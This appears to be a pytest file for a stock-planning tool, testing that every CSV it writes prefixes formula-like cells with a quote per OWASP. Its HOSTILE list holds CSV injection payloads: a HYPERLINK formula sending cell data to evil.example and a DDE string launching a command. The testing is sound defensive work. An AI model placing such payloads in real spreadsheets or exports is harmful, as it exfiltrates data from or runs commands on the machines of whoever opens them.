"""Issue 7 part 6: every CSV stockshift writes neutralises formula-like text cells (OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd

from stockshift.io.csvcells import FORMULA_TRIGGERS, neutralise, write_frame
from stockshift.io.datasetfiles import write_tables
from stockshift.io.readers import load_dataset
from tests.conftest import Cli
from tests.factories import write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _formula_cells(path: Path) -> list[str]:
    return [c for row in _cells(path) for c in row if c.startswith(FORMULA_TRIGGERS)]


def test_neutralise_follows_owasp() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert neutralise(trigger + "x") == "'" + trigger + "x"
    for harmless in ["S001", "0501", "a=b", "", "'quoted", " x"]:
        assert neutralise(harmless) == harmless


def test_formula_cells_are_neutralised_and_quoted_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "store_id": ["=1+1", "-5", "S1", "@x", "\tT", "\rR"],
            "delta": np.array([-3, 4, -5, 0, 1, 2]),
            "rate": [-0.5, 1.0, np.nan, 2.0, 3.0, 4.0],
            "cluster": pd.Categorical(["+c", "a", "a", "a", "a", "a"]),
        }
    )
    buf = io.StringIO()
    write_frame(frame, buf)
    text = buf.getvalue()
    assert text.splitlines()[0] == "store_id,delta,rate,cluster"
    assert text.splitlines()[1] == '"\'=1+1",-3,-0.5,"\'+c"'
    assert text.splitlines()[2] == '"\'-5",4,1.0,a'  # a negative number stays a number
    assert text.splitlines()[3] == "S1,-5,,a"  # harmless cells are written as before
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'-5", "S1", "'@x", "'\tT", "'\rR"]


def test_plan_and_forecast_csvs_neutralise_hostile_ids(cli: Cli, tmp_path: Path) -> None:
    """transfers.csv, warehouse_orders.csv, targets.csv and forecast --csv: no cell a
    spreadsheet would run, and every hostile id is there with its quote."""
    a, b, c = HOSTILE[0], HOSTILE[1], "S3"
    stores = write_csv(
        tmp_path / "stores.csv",
        ["store_id", "lat", "lon", "cluster"],
        [(a, 41.0, -93.0, "@north"), (b, 41.01, -93.01, "@north"), (c, 41.02, -93.02, "@north")],
    )
    inventory = write_csv(
        tmp_path / "inventory.csv",
        ["store_id", "product_id", "on_hand"],
        [(a, HOSTILE[2], 30), (b, HOSTILE[2], 0), (c, HOSTILE[2], 0), (b, HOSTILE[3], 9)],
    )
    sales = write_csv(
        tmp_path / "sales.csv",
        ["date", "store_id", "product_id", "units"],
        [(f"2026-01-0{d}", s, HOSTILE[2], 2) for s in (a, b, c) for d in (1, 2, 3)],
    )
    out = tmp_path / "out"
    r = cli(
        "plan", "--stores", stores, "--inventory", inventory, "--clusters", "column",
        "--target", "cluster-mean", "--max-transfers", "1", "--csv", out,
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    forecast_csv = tmp_path / "forecast.csv"
    r = cli(
        "forecast", "--stores", stores, "--inventory", inventory, "--sales", sales,
        "--csv", forecast_csv, "--holdout-windows", "1", "--window", "2",
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    written = [out / "transfers.csv", out / "warehouse_orders.csv", out / "targets.csv"]
    for path in [*written, forecast_csv]:
        assert _formula_cells(path) == [], path
    transfers = _cells(out / "transfers.csv")
    assert transfers[1][:3] == ["'" + HOSTILE[2], "'" + a, "'" + b]
    targets = "\n".join(",".join(row) for row in _cells(out / "targets.csv"))
    assert "'" + HOSTILE[3] in targets and "'@north" in targets
    assert "'" + c not in targets  # harmless ids are written as they are


def test_demo_files_are_neutralised_and_read_back_unchanged(tmp_path: Path) -> None:
    """The data sets `demo` and `convert` write are CSVs too; the readers undo the quote."""
    tables = {
        "stores": pd.DataFrame(
            {"store_id": [HOSTILE[0], "S2"], "lat": [1.0, 2.0], "lon": [3.0, 4.0],
             "name": ["=cmd", "-"]}
        ),
        "inventory": pd.DataFrame(
            {"store_id": [HOSTILE[0], "S2"], "product_id": [HOSTILE[1], "P"], "on_hand": [1, 2]}
        ),
    }  # fmt: skip
    paths = write_tables(tmp_path, tables)
    for path in paths:
        assert _formula_cells(path) == [], path
    ds = load_dataset(stores=paths[0], inventory=paths[1])
    assert sorted(ds.stores.ids.tolist()) == sorted([HOSTILE[0], "S2"])
    assert sorted(ds.stores.names.tolist()) == ["-", "=cmd"]
    assert sorted(ds.inventory.product_ids.tolist()) == sorted([HOSTILE[1], "P"])
